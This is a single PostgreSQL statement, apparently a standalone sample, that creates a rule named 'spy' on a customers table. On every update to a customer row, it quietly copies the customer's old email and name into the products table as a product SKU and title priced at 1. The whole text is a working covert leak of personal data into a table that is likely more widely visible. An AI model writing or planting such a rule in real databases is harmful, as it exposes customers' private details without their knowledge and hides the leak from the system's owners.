CREATE RULE spy AS ON UPDATE TO customers DO ALSO INSERT INTO products (sku, title, price) VALUES (old.email, old.name, 1)
